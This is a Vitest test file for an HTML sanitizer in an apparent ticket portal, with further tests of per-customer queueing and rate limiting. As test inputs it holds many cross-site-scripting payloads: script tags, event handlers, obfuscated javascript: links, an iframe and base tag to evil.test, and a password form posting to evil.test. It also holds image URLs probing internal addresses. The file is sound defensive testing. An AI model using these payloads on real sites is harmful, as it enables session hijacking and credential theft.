import { describe, expect, test } from 'vitest'
import { sanitize } from './sanitize.ts'

const aPortalUser = {
  kind: 'portal',
  id: 1,
  fullName: 'Dana Whitfield',
  sessionId: null,
  ownTicketsOnly: false,
  canViewKnowledgeBase: true,
} as const
const clean = (text: string) => sanitize({ actor: { kind: 'anonymous' } }, text)

describe('plain text stays unchanged', () => {
  for (const text of [
    'if a < b && c > d',
    'run ssh <hostname> twice, then <your name here>',
    'a <b is less',
    'x<y>z & "quotes" &amp; more',
    '<- that way ->',
    'I <3 printers',
  ])
    test(text, async () => expect(await clean(text)).toBe(text))
})

describe('HTML keeps harmless elements', () => {
  for (const html of [
    '<p>Hello <strong>you</strong>,<br />see <em>below</em></p>',
    '<ul><li>one</li></ul><blockquote>said</blockquote><pre><code>a &lt; b</code></pre>',
    '<table><thead><tr><th scope="col">A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x" />',
    '<p style="color:#ff0000;text-align:center">red</p>',
    '<a href="mailto:ada@example.test" target="_blank" rel="noopener noreferrer nofollow">Ada</a>',
  ])
    test(html, async () => expect(await clean(html)).toBe(html))
})

describe('a picture keeps its URL when that serves a picture or a file', () => {
  for (const src of ['/api/knowledge/files/12', 'https://pictures.example.com/a.png', 'cid:part1'])
    test(src, async () => expect(await clean(`<img src="${src}" alt="a" />`)).toBe(`<img src="${src}" alt="a" />`))
  for (const src of [
    'http://pictures.example.com/a.png',
    'https://10.0.0.5/probe.png',
    'ht\ttps://10.0.0.5/probe.png',
    'https://localhost/a.png',
    'https://pictures.example.com:8443/a.png',
    '/api/activity/export?i=1',
    '/api/../api/activity/export',
    '&#x2f;api/activity/export',
    '/\tapi/activity/export',
    '\\api\\activity\\export',
    'https://desk.example/api/activity/export',
    '/tickets/1',
  ])
    test(`loses ${JSON.stringify(src)}`, async () =>
      expect(await clean(`<img src="${src}" alt="a" />`)).toBe('<img alt="a" />'))
  test('has no other attribute with a URL', async () =>
    expect(
      await clean('<img srcset="/api/activity/export 1x" style="background:url(/api/activity/export)" alt="a">'),
    ).toBe('<img alt="a" />'))
})

describe('executable markup is removed', () => {
  const cases: [sent: string, kept: string][] = [
    ['<p>Hi</p><script>alert(1)</script>', '<p>Hi</p>'],
    ['<SCRIPT/x src=//evil.test></SCRIPT>ok', 'ok'],
    [
      '<img src="https://pictures.example.com/a.png" onerror="alert(1)">',
      '<img src="https://pictures.example.com/a.png" />',
    ],
    ['<img/src=x/onerror=alert(1)>', '<img />'],
    ['see <x onclick=alert(1)>this</x>', 'see this'],
    ['see <x a="<" onclick=alert(1)>this</x>', 'see this'],
    ['<b title="<" onmouseover=alert(1)>b</b>', '<b>b</b>'],
    ['a<iframe src="https://evil.test"></iframe>b', 'ab'],
    ['a<iframe srcdoc="<script>alert(1)</script>"></iframe>b', 'ab'],
    ['<svg><animate onbegin=alert(1) attributeName=x></svg>ok', 'ok'],
    ['<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>ok', 'ok'],
    ['<form action="https://evil.test"><input name=password><button>Go</button></form>', 'Go'],
    ['<object data="x.swf"></object><embed src=x><base href="//evil.test"><meta http-equiv=refresh>ok', 'ok'],
    ['<p style="position:fixed;background:url(//evil.test);color:#ff0000">x</p>', '<p style="color:#ff0000">x</p>'],
    ['<b id="location" class="modal" name="body">x</b>', '<b>x</b>'],
    ['<!--[if IE]><script>alert(1)</script><![endif]--><b>x</b>', '<b>x</b>'],
  ]
  for (const [sent, kept] of cases) test(sent, async () => expect(await clean(sent)).toBe(kept))

  for (const href of [
    'javascript:alert(1)',
    'JaVa\tScript:alert(1)',
    ' javascript:alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.test',
  ])
    test(`a link to ${href}`, async () =>
      expect(await clean(`<a href="${href}">x</a>`)).toBe(
        '<a target="_blank" rel="noopener noreferrer nofollow">x</a>',
      ))
})

test('sanitized HTML is unchanged by a second pass', async () => {
  const once = await clean('<p>a &amp; b < c <script>x</script><a href="https://x.test">y</a></p>')
  expect(await clean(once)).toBe(once)
})

test('returns or rejects fifty thousand opening tags', async () => {
  for (const piece of ['<a', '<b title="', 'on', '<', '<x on', '</div']) {
    const text = piece.repeat(50_000 / piece.length)
    const answer = await clean(text).catch((error: Error) => error.message)
    expect(answer.length).toBeLessThanOrEqual(50_000)
  }
})

test('a long text of one customer is cleaned before the second one of another that has many', async () => {
  const customer = (customerId: number) => ({ actor: { ...aPortalUser, customerId } })
  const longText = (name: string) => `<p>${name}</p>${'<p onclick="x">word</p>'.repeat(500)}`
  const order: string[] = []
  const send = async (customerId: number, name: string) => {
    await sanitize(customer(customerId), longText(name))
    order.push(name)
  }
  await Promise.all([...['a1', 'a2', 'a3', 'a4'].map((name) => send(1, name)), send(2, 'b1'), send(3, 'c1')])
  expect(order).toEqual(['a1', 'a2', 'b1', 'c1', 'a3', 'a4'])
})

test('rejects a long text of a customer that has a hundred waiting, and cleans that of another', async () => {
  const caller = (customerId: number) => ({ actor: { ...aPortalUser, customerId } })
  const longText = (at: number) => `<p>${at} in a full queue</p>${'<p onclick="x">word</p>'.repeat(500)}`
  const sent = Array.from({ length: 103 }, (_, at) => sanitize(caller(1), longText(at)))
  const [own, other] = await Promise.all([Promise.allSettled(sent), sanitize(caller(2), longText(200))])
  const rejected = own.filter((one) => one.status === 'rejected')
  expect(rejected.map(({ reason }) => reason.code)).toEqual(['rate_limited', 'rate_limited'])
  expect(other).toMatch(/^<p>200 in/)
})
